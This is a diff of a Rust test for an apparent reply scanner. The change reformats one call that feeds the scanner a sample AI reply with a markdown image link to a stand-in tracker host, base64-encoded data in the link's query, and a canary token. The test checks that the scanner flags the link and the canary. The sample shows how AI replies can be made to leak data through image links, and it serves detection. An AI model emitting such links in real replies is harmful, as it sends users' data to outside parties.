@@ -344,9 +344,10 @@ fn reply_scanner_finds_exfiltration_links_and_canary() {
         serde_json::from_str(r#"{"canary":"cnry-7f3a9e21","reply":{"allowed_link_hosts":["example.com"]}}"#).unwrap();
     let c = raw.compile().unwrap();
     // The closure says whether a link carries this exchange's data (engine::reply decides).
-    let found = c
-        .reply
-        .scan("Sure! ![x](https://tracker.example.net/i.png?data=c2VjcmV0IGRhdGEgaGVyZQ) and cnry-7f3a9e21", &mut |_| true);
+    let found = c.reply.scan(
+        "Sure! ![x](https://tracker.example.net/i.png?data=c2VjcmV0IGRhdGEgaGVyZQ) and cnry-7f3a9e21",
+        &mut |_| true,
+    );
     let ids: Vec<_> = found.iter().map(|f| f.rule_id).collect();
     assert!(ids.contains(&"PG-RP-001") && ids.contains(&"PG-RP-002"), "{ids:?}");
     assert!(c.reply.scan("See [the docs](https://docs.example.com/guide?q=install).", &mut |_| true).is_empty());
